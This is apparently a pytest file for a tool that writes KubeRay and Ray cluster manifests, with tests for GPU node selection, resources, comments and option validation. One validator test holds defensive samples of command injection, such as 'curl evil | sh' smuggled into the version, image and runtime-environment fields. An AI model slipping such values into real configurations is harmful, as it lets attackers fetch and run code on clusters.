"""Tests of the content of written cluster files."""

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.kuberay.designed_clusters import GPU_HEAD, TRIALS, a_design, filled_in, gpu_type
from tune_policies import InvalidResourcesError
from tune_policies.cluster.accelerators import FAMILIES
from tune_policies.kuberay.design.catalog import NodeType, Toleration
from tune_policies.kuberay.design.cluster_spec import DesignedGroup
from tune_policies.kuberay.design.device_plugins import DEVICE_PLUGINS, type_selector
from tune_policies.kuberay.writing import WriteOptions, write_cluster

FORMATS = ("kuberay", "cluster-yaml")


def cpu_type(**fields):
    return NodeType(**{"name": "cpu", "cpus": 4, "memory": 2**30, **fields})


def spec(plan, **options):
    return yaml.safe_load(write_cluster(plan, WriteOptions(**options)))["spec"]


def group(node_type, **options):
    return spec(a_design(node_type), **options)["workerGroupSpecs"][0]


def pod(node_type, **options):
    return group(node_type, **options)["template"]["spec"]


def test_the_manifest_of_a_small_cluster_has_the_expected_text():
    text = write_cluster(a_design(reasons=("12 trials at once need 3 nodes.",)))

    assert text == EXPECTED


def test_a_group_of_a_manifest_needs_a_dns_label_as_its_name():
    design = a_design(cpu_type(name="ray.worker.default"))

    with pytest.raises(
        InvalidResourcesError, match=r"'ray\.worker\.default' is not valid.*such as 'ray-worker-default'"
    ):
        write_cluster(design)
    assert (
        "ray.worker.default"
        in yaml.safe_load(write_cluster(design, WriteOptions(format="cluster-yaml")))["available_node_types"]
    )


@pytest.mark.parametrize(
    ("version", "expected"), [("2.51.0", None), ("2.52.0", {"mode": "token"}), ("2.61.0", {"mode": "token"})]
)
def test_a_cluster_requires_a_token_if_kuberay_can_create_it(version, expected):
    assert spec(a_design(), ray_version=version).get("authOptions") == expected


def test_the_first_line_states_how_many_trials_run_concurrently():
    text = write_cluster(a_design(num_trials=100))

    assert text.startswith(
        "# Written by tune-policies: a Ray cluster for 100 trials (12 run at once; the other trials wait).\n"
    )


EXPECTED = """\
# Written by tune-policies: a Ray cluster for 12 trials.
# 12 trials at once need 3 nodes.
# A pod requests all CPUs and all memory of its node type. It stays pending indefinitely if the machine has fewer
#   allocatable CPUs or less allocatable memory.
# Pods stay pending until Kubernetes adds nodes. For each group with maxReplicas N, create a node pool (gcloud container
#   node-pools create POOL --enable-autoscaling --total-min-nodes 0 --total-max-nodes N …), or turn on node
#   auto-provisioning.
# Ray's images contain neither tune-policies nor a framework such as torch. Use an image that contains both, or install
#   them with your job's runtime environment.
# An affinity prevents pods without GPUs from occupying nodes with GPUs. Remove it if all your nodes have GPUs.
# The labels of the platform 'gke' select the nodes with GPUs. If you use another platform, set the option platform.
# Optional fields are commented out. Uncomment and complete the fields that you need in each group.
apiVersion: ray.io/v1
kind: RayCluster
metadata:
  # labels: {kueue.x-k8s.io/queue-name: trials}
  # annotations: {kueue.x-k8s.io/elastic-job: "true"}  # required by Kueue for clusters with an autoscaler
  name: tune
spec:
  rayVersion: "2.60.0"
  enableInTreeAutoscaling: true
  autoscalerOptions:
    version: v2
    idleTimeoutSeconds: 60
  authOptions:
    mode: token
  headGroupSpec:
    rayStartParams:
      num-cpus: "0"
    template:
      metadata:
        annotations:
          cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
          karpenter.sh/do-not-disrupt: "true"
      spec:
        # serviceAccountName: tune  # an existing account that can read the data and write the results
        # priorityClassName: batch
        restartPolicy: Never
        affinity:
          nodeAffinity:
            requiredDuringSchedulingIgnoredDuringExecution:
              nodeSelectorTerms:
              - matchExpressions:
                - key: cloud.google.com/gke-accelerator
                  operator: DoesNotExist
        # imagePullSecrets: [{name: registry}]
        containers:
        - name: ray-head
          image: rayproject/ray:2.60.0-py311
          env:
          - name: NVIDIA_VISIBLE_DEVICES
            value: void
          # envFrom: [{secretRef: {name: tune-secrets}}]
          resources:
            limits:
              cpu: "2"
              memory: "8Gi"
            requests:
              cpu: "2"
              memory: "8Gi"
              ephemeral-storage: "10Gi"
          volumeMounts:
          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs, unless it is in a bucket
          - name: shared-memory
            mountPath: /dev/shm
        volumes:
        # - {name: results, persistentVolumeClaim: {claimName: tune-results}}  # ReadWriteMany
        - name: shared-memory
          emptyDir:
            medium: Memory
            sizeLimit: "8Gi"
  workerGroupSpecs:
  - groupName: l4
    replicas: 0
    minReplicas: 0
    maxReplicas: 3
    labels:
      ray.io/accelerator-type: L4
    resources:
      accelerator_type:L4: "1"
    rayStartParams: {}
    template:
      metadata:
        annotations:
          cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
          karpenter.sh/do-not-disrupt: "true"
      spec:
        # serviceAccountName: tune  # an existing account that can read the data and write the results
        # priorityClassName: batch
        restartPolicy: Never
        nodeSelector:
          cloud.google.com/gke-accelerator: nvidia-l4
        tolerations:
        - key: nvidia.com/gpu
          operator: Exists
          effect: NoSchedule
        # imagePullSecrets: [{name: registry}]
        containers:
        - name: ray-worker
          image: rayproject/ray:2.60.0-py311-gpu
          # envFrom: [{secretRef: {name: tune-secrets}}]
          resources:
            limits:
              cpu: "8"
              memory: "32Gi"
              nvidia.com/gpu: "1"
            requests:
              cpu: "8"
              memory: "32Gi"
              nvidia.com/gpu: "1"
              ephemeral-storage: "10Gi"
          volumeMounts:
          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs, unless it is in a bucket
          - name: shared-memory
            mountPath: /dev/shm
        volumes:
        # - {name: results, persistentVolumeClaim: {claimName: tune-results}}  # ReadWriteMany
        - name: shared-memory
          emptyDir:
            medium: Memory
            sizeLimit: "32Gi"
"""


def test_reasons_with_any_text_are_written_as_comments():
    text = write_cluster(a_design(reasons=("first\nkind: Pod\x07", "- \u2028kind: Pod")))

    assert yaml.safe_load(text)["kind"] == "RayCluster"


def test_a_job_contains_its_cluster():
    job = spec(a_design(), job="python train.py", image="me/tune:1")

    assert (job["entrypoint"], job["shutdownAfterJobFinishes"]) == ("python train.py", True)
    assert job["rayClusterSpec"] == spec(a_design(), image="me/tune:1")
    assert "runtimeEnvYAML" not in job


@pytest.mark.parametrize("job", [None, "python train.py"])
def test_a_comment_of_a_job_recommends_external_storage(job):
    text = write_cluster(a_design(), WriteOptions(job=job, image="me/ray:1"))

    assert ("# Nodes and their files are deleted after the job" in text) == (job is not None)


def test_the_runtime_environment_of_a_job_is_written():
    environment = {"working_dir": "s3://bucket/code.zip", "pip": ["tune-policies", "torch==2.13.0"]}

    job = spec(a_design(), job="python train.py", runtime_env=environment)

    assert yaml.safe_load(job["runtimeEnvYAML"]) == environment


def test_the_namespace_is_optional():
    written = [
        yaml.safe_load(write_cluster(a_design(), WriteOptions(namespace=namespace)))["metadata"]
        for namespace in (None, "ml")
    ]

    assert written == [{"name": "tune"}, {"name": "tune", "namespace": "ml"}]


VOID = [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"}]
INTEL = gpu_type(name="intel", accelerator_type="Intel-GPU-Max-1550")


@pytest.mark.parametrize(
    ("node_types", "variables"),
    [
        ([cpu_type(), gpu_type()], [VOID, VOID, None]),
        ([INTEL, gpu_type()], [VOID, VOID, None]),
        ([cpu_type(), INTEL], [None, None, None]),
        ([gpu_type(device_key="nvidia.com/mig-1g.10gb")], [VOID, None]),
    ],
    ids=["next to NVIDIA's GPUs", "of another vendor next to them", "without GPUs", "next to GPU parts"],
)
def test_nvidia_gpus_are_hidden_from_pods_without_gpus(node_types, variables):
    written = spec(a_design(*node_types))

    groups = [written["headGroupSpec"], *written["workerGroupSpecs"]]
    assert [each["template"]["spec"]["containers"][0].get("env") for each in groups] == variables


@pytest.mark.parametrize(
    ("platform", "label"),
    [
        ("gke", "cloud.google.com/gke-accelerator"),
        ("eks", "k8s.amazonaws.com/accelerator"),
        ("aks", "kubernetes.azure.com/accelerator"),
        ("karpenter", "karpenter.k8s.aws/instance-gpu-name"),
        ("gpu-operator", "nvidia.com/gpu.present"),
    ],
)
def test_pods_without_devices_do_not_run_on_nodes_with_gpus(platform, label):
    plan = a_design(cpu_type(), gpu_type(), cpu_type(name="mine", node_selector={"pool": "a"}))
    written = spec(plan, platform=platform)

    groups = [written["headGroupSpec"], *written["workerGroupSpecs"]]
    found = [each["template"]["spec"].get("affinity") for each in groups]
    terms = {"nodeSelectorTerms": [{"matchExpressions": [{"key": label, "operator": "DoesNotExist"}]}]}
    off = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": terms}}
    assert found == [off, off, None, None]


@pytest.mark.parametrize(
    ("node_type", "platform"), [(cpu_type(), "gke"), (gpu_type(), None)], ids=["no GPUs", "labels that no node has"]
)
def test_without_known_gpu_nodes_the_head_runs_anywhere(node_type, platform):
    assert "affinity" not in spec(a_design(node_type), platform=platform)["headGroupSpec"]["template"]["spec"]


@given(st.text() | st.text(alphabet="a \n\t\r#:-'\"\u2028\x85"))
def test_any_command_of_a_job_is_written_unchanged(command):
    if command:
        assert spec(a_design(), job=command, image="me/ray:1")["entrypoint"] == command


@pytest.mark.parametrize("form", FORMATS)
def test_optional_fields_are_comments_with_valid_yaml(form):
    text = write_cluster(a_design(), WriteOptions(format=form))

    filled = filled_in(text)

    named = {
        "kuberay": ("queue-name", "serviceAccountName", "priorityClassName", "secretRef", "claimName", "registry"),
        "cluster-yaml": ("requirements.txt", "file_mounts"),
    }
    assert all(name not in str(yaml.safe_load(text)) for name in named[form])
    assert all(name in str(yaml.safe_load(filled)) for name in named[form])


def test_the_head_and_every_group_have_optional_fields():
    text = write_cluster(a_design(cpu_type(), gpu_type()))

    assert text.count("# serviceAccountName") == 3


@pytest.mark.parametrize(
    ("fields", "key", "expected"),
    [
        ({"gpus": 1}, "nvidia.com/gpu", None),
        ({"gpus": 2, "device_key": "nvidia.com/gpu.shared"}, "nvidia.com/gpu.shared", {"GPU": "2"}),
        ({"gpus": 2, "device_key": "amd.com/gpu"}, "amd.com/gpu", None),
        ({"gpus": 2, "device_key": "gpu.intel.com/xe"}, "gpu.intel.com/xe", {"GPU": "2"}),
        ({"gpus": 2, "device_key": "nvidia.com/mig-1g.10gb"}, "nvidia.com/mig-1g.10gb", {"GPU": "2"}),
        (
            {"gpus": 1, "accelerator_type": "AMD-Instinct-MI300X-OAM"},
            "amd.com/gpu",
            {"accelerator_type:AMD-Instinct-MI300X-OAM": "1"},
        ),
        (
            {"gpus": 1, "accelerator_type": "Intel-GPU-Max-1550"},
            "gpu.intel.com/i915",
            {"GPU": "1", "accelerator_type:Intel-GPU-Max-1550": "1"},
        ),
        ({"custom": {"HPU": 8}}, "habana.ai/gaudi", {"HPU": "8"}),
        ({"custom": {"neuron_cores": 2}}, "aws.amazon.com/neuroncore", {"neuron_cores": "2"}),
        ({"custom": {"NPU": 8, "license": 1}}, "huawei.com/Ascend910", {"NPU": "8", "license": "1"}),
        (
            {"custom": {"TPU": 4}, "accelerator_type": "TPU-V6E"},
            "google.com/tpu",
            {"accelerator_type:TPU-V6E": "1"},
        ),
    ],
    ids=[
        "NVIDIA",
        "time slices",
        "AMD by key",
        "Intel by key",
        "MIG",
        "AMD",
        "Intel",
        "Gaudi",
        "Neuron",
        "Ascend",
        "TPU",
    ],
)
def test_amounts_that_ray_ignores_in_limits_are_written_as_group_resources(fields, key, expected):
    written = group(cpu_type(**fields))
    resources = written["template"]["spec"]["containers"][0]["resources"]

    assert written.get("resources") == expected
    assert key in resources["limits"]
    assert resources["requests"] == resources["limits"] | {"ephemeral-storage": "10Gi"}


def test_for_an_older_ray_version_amounts_are_written_as_start_parameters():
    """Ray 2.50 ignores the field ``resources``, and KubeRay rejects it if ``rayStartParams`` contains resources."""
    written = group(gpu_type(device_key="nvidia.com/mig-1g.10gb"), ray_version="2.50.1")

    assert written["rayStartParams"] == {"num-gpus": "1", "resources": "'{\"accelerator_type:L4\": 1}'"}
    assert "resources" not in written


def test_pods_with_gpus_tolerate_azures_recommended_taint_on_aks():
    tolerations = pod(gpu_type(), platform="aks")["tolerations"]

    assert tolerations[1:] == [{"key": "sku", "operator": "Equal", "value": "gpu", "effect": "NoSchedule"}]
    assert "tolerations" not in pod(cpu_type(), platform="aks")


@pytest.mark.parametrize(
    ("platform", "message"),
    [
        ("gke", "--total-max-nodes N"),
        ("eks", "managed node group with minSize 0, maxSize N"),
        ("aks", "--enable-cluster-autoscaler --min-count 0"),
        ("karpenter", "create a NodePool that allows"),
        (None, "an autoscaler that adds them"),
    ],
)
def test_a_comment_explains_how_the_platform_adds_nodes(platform, message):
    text = write_cluster(a_design(), WriteOptions(platform=platform)).replace("\n#  ", "")

    assert message in text


@pytest.mark.parametrize("ray_version", ["2.50.0", "2.60.0"])
def test_the_option_num_gpus_writes_gpus_as_a_start_parameter(ray_version):
    written = group(gpu_type(gpus=2), num_gpus=True, ray_version=ray_version)

    assert written["rayStartParams"] == {"num-gpus": "2", "resources": """'{"accelerator_type:L4": 1}'"""}
    assert "resources" not in written
    assert written["template"]["spec"]["containers"][0]["resources"]["limits"]["nvidia.com/gpu"] == "2"


def test_a_head_with_gpus_is_written_like_a_group_with_gpus():
    head = spec(a_design(head=GPU_HEAD))["headGroupSpec"]
    ray = head["template"]["spec"]["containers"][0]

    assert (head["rayStartParams"], head["resources"]) == ({}, {"accelerator_type:L4": "1"})
    assert head["labels"] == {"ray.io/accelerator-type": "L4", "zone": "eu"}
    assert (ray["image"], ray["resources"]["limits"]["nvidia.com/gpu"]) == ("rayproject/ray:2.60.0-py311-gpu", "2")
    assert "affinity" not in head["template"]["spec"]


def test_each_replica_of_a_tpu_group_is_a_slice():
    tpu = cpu_type(name="tpu", custom={"TPU": 4}, accelerator_type="TPU-V6E", topology="4x4")
    plan = a_design(groups=(DesignedGroup(node_type=tpu, min_nodes=4, max_nodes=16, num_hosts=4),))

    written = spec(plan)["workerGroupSpecs"][0]

    numbers = [written[field] for field in ("minReplicas", "replicas", "maxReplicas", "numOfHosts")]
    assert numbers == [1, 1, 4, 4]


def test_a_group_starts_with_its_minimum_number_of_nodes():
    plan = a_design(groups=(DesignedGroup(node_type=gpu_type(), min_nodes=2, max_nodes=3),))

    assert spec(plan)["workerGroupSpecs"][0]["replicas"] == 2


@pytest.mark.parametrize(
    ("platform", "fields", "selector"),
    [
        ("gke", {}, {"cloud.google.com/gke-accelerator": "nvidia-l4"}),
        ("eks", {}, {"k8s.amazonaws.com/accelerator": "nvidia-l4"}),
        ("aks", {}, {"kubernetes.azure.com/accelerator": "nvidia"}),
        ("karpenter", {}, {"karpenter.k8s.aws/instance-gpu-name": "l4"}),
        ("gpu-operator", {}, {"nvidia.com/gpu.product": "NVIDIA-L4"}),
        ("gpu-operator", {"device_key": "nvidia.com/gpu.shared"}, {}),
        ("gke", {"accelerator_type": None}, {}),
        (None, {}, {}),
        (
            None,
            {"gpus": 0, "custom": {"TPU": 8}, "accelerator_type": "TPU-V6E"},
            {"cloud.google.com/gke-tpu-accelerator": "tpu-v6e-slice", "cloud.google.com/gke-tpu-topology": "2x4"},
        ),
    ],
    ids=[
        "GKE",
        "EKS",
        "AKS",
        "Karpenter",
        "GPU operator",
        "GPU parts",
        "any GPU type",
        "unknown platform",
        "TPUs exist only on GKE",
    ],
)
def test_nodes_are_selected_by_the_labels_of_their_platform(platform, fields, selector):
    assert type_selector(gpu_type(**fields), platform) == selector


def test_selectors_and_tolerations_of_the_user_are_added():
    spot = Toleration(key="spot", operator="Equal", value="yes", effect=None)

    written = pod(gpu_type(node_selector={"pool": "a"}, tolerations=(spot,)))

    assert written["nodeSelector"] == {"cloud.google.com/gke-accelerator": "nvidia-l4", "pool": "a"}
    assert written["tolerations"][1:] == [{"key": "spot", "operator": "Equal", "value": "yes"}]


@pytest.mark.parametrize("memory", [2**30, 3 * 2**20, 5 * 2**20 + 2**10, 2**20 + 1])
def test_memory_is_written_to_the_byte(memory):
    written = pod(gpu_type(memory=memory))["containers"][0]["resources"]["limits"]["memory"]

    units = {"Gi": 2**30, "Mi": 2**20, "Ki": 2**10}
    assert int(written.rstrip("GMKi")) * units.get(written[-2:], 1) == memory


def test_each_device_family_has_a_device_plugin():
    assert [plugin.family for plugin in DEVICE_PLUGINS] == [str(family) for family in FAMILIES]


TPU_V2 = cpu_type(custom={"TPU": 4}, accelerator_type="TPU-V2")
TPU_V7 = cpu_type(custom={"TPU": 4}, accelerator_type="TPU-V7X", topology="2x2x1")
NO_KEY = cpu_type(custom={"MBLT": 1})


@pytest.mark.parametrize(
    ("plan", "options", "message"),
    [
        (
            a_design(name="t" * 48),
            {"job": "python x.py", "image": "me/ray:1"},
            "48 characters, but the name of a RayJob can have at most 47",
        ),
        (a_design(gpu_type(name="headgroup")), {}, "'headgroup' is used twice"),
        (a_design(gpu_type(), gpu_type()), {"format": "cluster-yaml"}, "'l4' is used twice"),
        (a_design(NO_KEY), {}, "Set device_key to the resource that your cluster uses"),
        (
            a_design(gpu_type(device_key="amd.com/gpu")),
            {},
            "has devices of the family NVIDIA GPU, but its device_key 'amd.com/gpu'",
        ),
        (a_design(gpu_type(device_key="google.com/tpu")), {}, "is for the family Google TPU"),
        (a_design(TPU_V2), {}, "only supports TPU-V4, TPU-V5P"),
        (a_design(cpu_type(custom={"TPU": 4})), {}, "TPUs of any type"),
        (
            a_design(cpu_type(custom={"TPU": 2}, accelerator_type="TPU-V6E")),
            {},
            "single-host slice with 2 chips. Set the topology",
        ),
        (a_design(cpu_type(custom={"vgpu": 2})), {}, "would interpret the custom resource 'vgpu'"),
        (
            a_design(TPU_V7),
            {"ray_version": "2.50.0"},
            "the group 'cpu' has TPU-V7X, which the autoscaler of Ray 2.50.0 does not support",
        ),
        (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "use Ray 2.51 or newer"),
    ],
)
def test_a_cluster_that_cannot_run_is_refused(plan, options, message):
    with pytest.raises(InvalidResourcesError, match=message):
        write_cluster(plan, WriteOptions(**options))


@pytest.mark.parametrize(
    ("form", "message"),
    [("kuberay", "cannot have 3 nodes: use a multiple of 2"), ("cluster-yaml", "launcher does not support")],
)
def test_slices_of_several_hosts_must_be_whole_and_require_kubernetes(form, message):
    plan = a_design(groups=(DesignedGroup(node_type=gpu_type(), max_nodes=3, num_hosts=2),))

    with pytest.raises(InvalidResourcesError, match=message):
        write_cluster(plan, WriteOptions(format=form))


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"ray_version": "latest"}, "ray_version must be a full version such as 2.60.0"),
        ({"ray_version": "2.60"}, "a full version"),
        ({"ray_version": "2.44.1"}, "2.50.0 or newer, got 2.44.1"),
        ({"ray_version": "2.60.0\n"}, "a full version"),
        ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "a full version"),
        ({"ray_version": "\uff12.60.0"}, "a full version"),
        ({"format": "cluster-yaml", "job": "python x.py"}, "job requires format 'kuberay'"),
        ({"format": "cluster-yaml", "namespace": "ml"}, "namespace requires format 'kuberay'"),
        ({"namespace": "Ml\n"}, "namespace 'Ml.n' is not valid: use at most 63"),
        ({"job": "python x.py"}, "set image, or runtime_env"),
        ({"runtime_env": {"pip": ["torch"]}}, "runtime_env requires a job"),
        ({"job": "x", "runtime_env": {"working_dir": "."}}, "'.', which the cluster cannot read"),
        ({"job": "x", "runtime_env": {"py_modules": ["my_module"]}}, "'my_module', which the cluster cannot read"),
        ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell interprets"),
        ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell interprets"),
        ({"image": ""}, "image"),
        ({"image": "me/ray:1; curl evil | sh"}, "is not a container image"),
        ({"image": "me/ray:1\n"}, "is not a container image"),
        ({"platform": "iks"}, "platform"),
        ({"num_gpus": True, "format": "cluster-yaml"}, "always contains the GPUs"),
    ],
)
def test_invalid_options_are_refused(fields, message):
    with pytest.raises(InvalidResourcesError, match=message):
        WriteOptions(**fields)


def test_the_launcher_installs_the_given_ray_version_or_uses_the_image():
    def config(**options):
        return yaml.safe_load(write_cluster(a_design(), WriteOptions(format="cluster-yaml", **options)))

    assert config(ray_version="2.55.0")["setup_commands"] == ["pip install 'ray[default,tune,train]==2.55.0'"]
    assert config(image="me/ray:1")["docker"] == {"image": "me/ray:1", "container_name": "ray_container"}


@pytest.mark.parametrize(
    ("node_type", "options", "expected"),
    [
        pytest.param(cpu_type(custom={"HPU": 8}), {}, True, id="Gaudi in Ray's image"),
        pytest.param(cpu_type(custom={"HPU": 8}), {"image": "mine:1"}, False, id="Gaudi in the user's image"),
        pytest.param(gpu_type(), {}, False, id="NVIDIA's GPUs"),
    ],
)
def test_a_comment_lists_devices_without_software_in_rays_images(node_type, options, expected):
    text = write_cluster(a_design(node_type), WriteOptions(**options))

    assert ("# Ray's images have no software for Intel Gaudi. Use an image that contains it." in text) == expected


@pytest.mark.parametrize("image", [None, "me/ray:1"])
def test_a_comment_lists_software_that_rays_image_does_not_contain(image):
    text = write_cluster(a_design(), WriteOptions(image=image))

    assert ("# Ray's images contain neither tune-policies nor a framework" in text) == (image is None)


@pytest.mark.parametrize(
    ("labels", "expected"),
    [
        pytest.param(({}, {}), True, id="two types with one GPU"),
        pytest.param(({"pool": "a"}, {"pool": "b"}), False, id="distinguished by the user's labels"),
    ],
)
def test_a_comment_lists_groups_that_select_the_same_nodes(labels, expected):
    large = gpu_type(name="l4-4", gpus=4, node_selector=labels[1])

    text = write_cluster(a_design(gpu_type(node_selector=labels[0]), large))

    assert ("# Groups l4, l4-4 select the same nodes" in text) == expected


@pytest.mark.parametrize(
    ("fields", "platform", "expected"),
    [
        pytest.param({"accelerator_type": "L4"}, "gke", False, id="a type that GKE labels"),
        pytest.param({"accelerator_type": "L40S"}, "gke", True, id="a type that is not on GKE"),
        pytest.param({"accelerator_type": "L4"}, None, True, id="nodes without labels"),
        pytest.param({"accelerator_type": "L4", "node_selector": {"pool": "l4"}}, None, False, id="the user's labels"),
        pytest.param({"accelerator_type": None}, "gke", False, id="GPUs of any type"),
    ],
)
def test_a_comment_lists_device_types_without_a_label(fields, platform, expected):
    text = write_cluster(a_design(gpu_type(**fields)), WriteOptions(platform=platform))

    assert ("# No label selects the nodes with L4" in text) == expected
